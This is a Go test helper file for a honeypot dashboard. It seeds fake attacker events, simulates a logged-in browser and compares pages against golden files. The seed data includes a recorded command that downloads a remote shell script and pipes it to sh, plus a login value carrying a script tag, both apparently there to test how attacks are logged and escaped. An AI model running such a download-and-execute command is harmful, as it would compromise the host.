package web

import (
	"context"
	"flag"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"
	"time"

	"github.com/google/uuid"
	"golang.org/x/crypto/bcrypt"

	"github.com/decnet-go/decnet/internal/api"
	"github.com/decnet-go/decnet/internal/event"
	"github.com/decnet-go/decnet/internal/store"
)

var update = flag.Bool("update", false, "rewrite testdata/*.golden from the current output")

const testPassword = "correct horse battery"

// testNow is the fixed clock of every test page; the seed is relative to it.
var testNow = time.Date(2026, 1, 15, 12, 0, 0, 0, time.UTC)

// testEnv is a dashboard over a fresh SQLite store.
type testEnv struct {
	t  testing.TB
	st *store.Store
	d  *Dashboard
}

func newEnv(t testing.TB) *testEnv {
	t.Helper()
	st, err := store.Open(context.Background(), filepath.Join(t.TempDir(), "decnet.db"))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { st.Close() })
	d := New(Config{Version: "test", Now: func() time.Time { return testNow }}, st)
	d.pollEvery, d.keepaliveEvery = 10*time.Millisecond, 50*time.Millisecond
	return &testEnv{t: t, st: st, d: d}
}

// addUser creates an account with testPassword (cheap bcrypt cost).
func (e *testEnv) addUser(name, role string, mustChange bool) store.User {
	e.t.Helper()
	hash, err := bcrypt.GenerateFromPassword([]byte(testPassword), bcrypt.MinCost)
	if err != nil {
		e.t.Fatal(err)
	}
	u := store.User{UUID: uuid.NewString(), Username: name, PasswordHash: string(hash), Role: role, MustChangePassword: mustChange}
	if err := e.st.CreateUser(context.Background(), u); err != nil {
		e.t.Fatal(err)
	}
	return u
}

// browser is a client with a cookie jar, as a browser would be.
type browser struct {
	e       *testEnv
	cookies map[string]string
}

func (e *testEnv) browser() *browser { return &browser{e: e, cookies: map[string]string{}} }

// do sends one request through the dashboard, with the jar's cookies, and
// keeps the cookies it sets.
func (b *browser) do(method, target string, form url.Values, hdr ...string) *httptest.ResponseRecorder {
	b.e.t.Helper()
	var body io.Reader
	if form != nil {
		body = strings.NewReader(form.Encode())
	}
	r := httptest.NewRequest(method, target, body)
	r.RemoteAddr = "192.0.2.200:40000"
	if form != nil {
		r.Header.Set("Content-Type", "application/x-www-form-urlencoded")
	}
	for i := 0; i+1 < len(hdr); i += 2 {
		r.Header.Set(hdr[i], hdr[i+1])
	}
	for k, v := range b.cookies {
		r.AddCookie(&http.Cookie{Name: k, Value: v})
	}
	rec := httptest.NewRecorder()
	b.e.d.ServeHTTP(rec, r)
	for _, c := range rec.Result().Cookies() {
		if c.MaxAge < 0 {
			delete(b.cookies, c.Name)
		} else {
			b.cookies[c.Name] = c.Value
		}
	}
	return rec
}

var csrfInput = regexp.MustCompile(`name="csrf" value="([^"]+)"`)

// csrf is the token of the first form in a page.
func csrfOf(t testing.TB, body string) string {
	t.Helper()
	m := csrfInput.FindStringSubmatch(body)
	if m == nil {
		t.Fatalf("no CSRF field in page:\n%s", body)
	}
	return m[1]
}

// login signs in through the form and returns the session's CSRF token.
func (b *browser) login(name, password string) string {
	b.e.t.Helper()
	page := b.do("GET", "/ui/login", nil)
	rec := b.do("POST", "/ui/login", url.Values{"csrf": {csrfOf(b.e.t, page.Body.String())}, "username": {name}, "password": {password}})
	if rec.Code != http.StatusSeeOther {
		b.e.t.Fatalf("login %s: %d\n%s", name, rec.Code, rec.Body)
	}
	home := b.do("GET", rec.Header().Get("Location"), nil)
	if home.Code != http.StatusOK {
		b.e.t.Fatalf("after login %s: GET %s: %d", name, rec.Header().Get("Location"), home.Code)
	}
	return csrfOf(b.e.t, home.Body.String())
}

// seed stores a small, fixed attack: three addresses on two deckies.
func (e *testEnv) seed() {
	e.t.Helper()
	ctx := context.Background()
	n := 0
	ev := func(ago time.Duration, decky, svc, typ, ip, session string, fields map[string]any) event.Event {
		n++
		x := event.New(decky, svc, typ)
		x.ID = fmt.Sprintf("0190a000-0000-7000-8000-%012d", n)
		x.Time = testNow.Add(-ago)
		x.SrcIP, x.SrcPort, x.Session, x.Fields = ip, 40000+n, session, fields
		x.DstIP, x.Proto = "10.0.0.2", "tcp"
		return x
	}
	login := func(x event.Event, user, pw, outcome string) event.Event {
		x.Credential = event.NewCredential(user, "password", []byte(pw), outcome)
		x.Fields = map[string]any{"username": user}
		return x
	}
	evs := []event.Event{
		ev(5*time.Hour, "decky-02", "telnet", event.TypeConnect, "192.0.2.9", "t1", nil),
		ev(3*time.Hour, "decky-02", "http", event.TypeRequest, "198.51.100.7", "h1", map[string]any{"method": "GET", "path": "/wp-login.php", "user_agent": "curl/8.5"}),
		ev(2*time.Hour, "decky-02", "http", event.TypeRequest, "198.51.100.7", "h2", map[string]any{"method": "POST", "path": "/cgi-bin/luci", "user_agent": "curl/8.5"}),
		ev(40*time.Minute, "decky-01", "ssh", event.TypeConnect, "203.0.113.5", "s1", map[string]any{"client_version": "SSH-2.0-libssh_0.9.6"}),
		login(ev(39*time.Minute, "decky-01", "ssh", event.TypeLoginAttempt, "203.0.113.5", "s1", nil), "root", "123456", "failure"),
		login(ev(38*time.Minute, "decky-01", "ssh", event.TypeLoginAttempt, "203.0.113.5", "s1", nil), "root", "admin<script>", "success"),
		ev(37*time.Minute, "decky-01", "ssh", event.TypeCommand, "203.0.113.5", "s1", map[string]any{"command": "uname -a", "username": "root"}),
		ev(36*time.Minute, "decky-01", "ssh", event.TypeCommand, "203.0.113.5", "s1", map[string]any{"command": "wget http://203.0.113.99/x.sh -O- | sh", "username": "root"}),
		ev(30*time.Second, "decky-01", "ssh", event.TypeDisconnect, "203.0.113.5", "s1", nil),
	}
	if _, err := e.st.IngestBatch(ctx, evs); err != nil {
		e.t.Fatal(err)
	}
	for _, d := range []store.DeckyRow{
		{Name: "decky-01", IP: "10.0.0.2", Hostname: "web-prod-01", Distro: "debian", Status: "running",
			Services: []store.ServiceBinding{{Name: "ssh", Proto: "tcp", Port: 2222, RequestedPort: 22, Status: "listening"}}},
		{Name: "decky-02", IP: "10.0.0.3", Hostname: "nas-02", Distro: "ubuntu", Status: "running",
			Services: []store.ServiceBinding{{Name: "http", Proto: "tcp", Port: 80, RequestedPort: 80, Status: "listening"},
				{Name: "telnet", Proto: "tcp", Port: 23, RequestedPort: 23, Status: "failed", Error: "address in use"}}},
	} {
		if err := e.st.PutDecky(ctx, d); err != nil {
			e.t.Fatal(err)
		}
	}
}

var (
	mainRe     = regexp.MustCompile(`(?s)<main[^>]*>.*</main>`)
	uuidRe     = regexp.MustCompile(`[0-9a-f]{8}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{4}-[0-9a-f]{12}`)
	tokenRe    = regexp.MustCompile(`value="[A-Za-z0-9_-]{43}"`)
	wallTimeRe = regexp.MustCompile(`<time class="wall" datetime="[^"]*" title="[^"]*">[^<]*<`)
)

// fragment is the <main> element of a page with what changes from run to
// run (ids the store mints, tokens, wall-clock times) replaced.
func fragment(t testing.TB, body string) string {
	t.Helper()
	m := mainRe.FindString(body)
	if m == "" {
		t.Fatalf("no <main> in page:\n%s", body)
	}
	return normalize(m) + "\n"
}

// normalize replaces what changes from run to run in a rendered page.
func normalize(m string) string {
	m = uuidRe.ReplaceAllStringFunc(m, func(s string) string {
		if strings.HasPrefix(s, "0190a000-") { // the seed's fixed event ids
			return s
		}
		return "UUID"
	})
	m = tokenRe.ReplaceAllString(m, `value="TOKEN"`)
	return wallTimeRe.ReplaceAllString(m, `<time class="wall" datetime="WALL" title="WALL">WALL<`)
}

// golden compares got with testdata/name.golden, or rewrites it with -update.
func golden(t *testing.T, name, got string) {
	t.Helper()
	path := filepath.Join("testdata", name+".golden")
	if *update {
		if err := os.WriteFile(path, []byte(got), 0o644); err != nil {
			t.Fatal(err)
		}
		return
	}
	want, err := os.ReadFile(path)
	if err != nil {
		t.Fatalf("%v (run go test -update to create it)", err)
	}
	if string(want) != got {
		t.Errorf("%s differs from the golden file (go test ./internal/web -update to accept):\n--- got ---\n%s", path, got)
	}
}

// viewerOf is a shortcut for the role constants.
var (
	roleAdmin  = api.RoleAdmin
	roleViewer = api.RoleViewer
)

// wrongToken is token with its first character changed: a CSRF token that
// is not the session's (replacing it with a fixed letter would give the
// right token back one time in 64).
func wrongToken(token string) string {
	c := byte('x')
	if token[0] == c {
		c = 'y'
	}
	return string(c) + token[1:]
}
